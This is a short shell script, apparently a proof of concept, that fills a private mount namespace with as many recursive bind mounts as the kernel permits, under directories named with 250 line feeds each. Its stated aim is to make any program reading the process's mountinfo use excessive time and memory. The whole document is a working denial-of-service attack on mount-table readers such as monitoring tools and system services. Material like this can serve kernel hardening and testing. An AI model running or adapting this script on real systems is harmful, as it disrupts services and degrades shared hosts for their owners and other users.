#!/bin/sh
# Root of a user namespace mounts as much as the kernel lets him, so that whoever reads the mounts of his process takes
# long and much memory. Run in a mount namespace of his own: sh mounts.sh DIR DEPTH TIMES. Each of DEPTH directories
# above the mounts has a name of 250 line feeds, which mountinfo writes as four bytes each. Prints "mounts".
set -eu
dir=$1 depth=$2 times=$3
mount --make-rprivate /
mount -t tmpfs none "$dir"
feeds=$(printf '%250s.' '' | tr ' ' '\n')
feeds=${feeds%.}.
while [ "$depth" -gt 0 ]; do
	dir=$dir/$feeds
	mkdir "$dir"
	depth=$((depth - 1))
done
mount -t tmpfs none "$dir"
i=0
while [ $i -lt "$times" ]; do # each time twice as many, until fs.mount-max
	mkdir "$dir/$i"
	mount --rbind "$dir" "$dir/$i" 2>/dev/null || break
	i=$((i + 1))
done
echo mounts
exec sleep 1000
